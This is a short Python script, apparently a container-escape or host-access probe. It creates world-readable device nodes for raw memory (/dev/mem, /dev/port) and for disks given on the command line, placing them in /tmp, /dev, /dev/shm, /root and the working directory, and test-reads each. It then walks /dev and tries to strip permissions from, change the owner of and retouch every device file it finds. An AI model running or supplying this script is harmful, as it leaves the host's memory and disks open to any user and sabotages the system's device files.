"""Opens the host's disks and memory by device files of its own, and changes those that are there."""

import os
import stat
import sys

MEMORY = [(stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 1, 4)] if "memory" in sys.argv else []
disks = [word.split(":") for word in sys.argv[1:] if ":" in word]
devices = MEMORY + [(stat.S_IFBLK, int(major), int(minor)) for major, minor in disks]
for directory in ("/tmp", ".", "/dev", "/dev/shm", "/root"):
    for kind, major, minor in devices:
        at = f"{directory}/device-{major}-{minor}"
        try:
            os.mknod(at, kind | 0o666, os.makedev(major, minor))
            os.read(os.open(at, os.O_RDONLY), 1)
        except OSError:
            continue
        print(f"{at} can be read")
for directory, _, names in os.walk("/dev"):
    for name in names:
        at = os.path.join(directory, name)
        try:
            found = os.lstat(at)
            if stat.S_ISBLK(found.st_mode) and (os.major(found.st_rdev), os.minor(found.st_rdev)) in disks:
                print(f"{at} is there")
        except OSError:
            continue
        for act in (lambda: os.chmod(at, 0), lambda: os.chown(at, 1, 1), lambda: os.utime(at, (1, 1))):
            try:
                if not stat.S_ISLNK(found.st_mode):
                    act()
            except OSError:
                pass
print("tried everything")
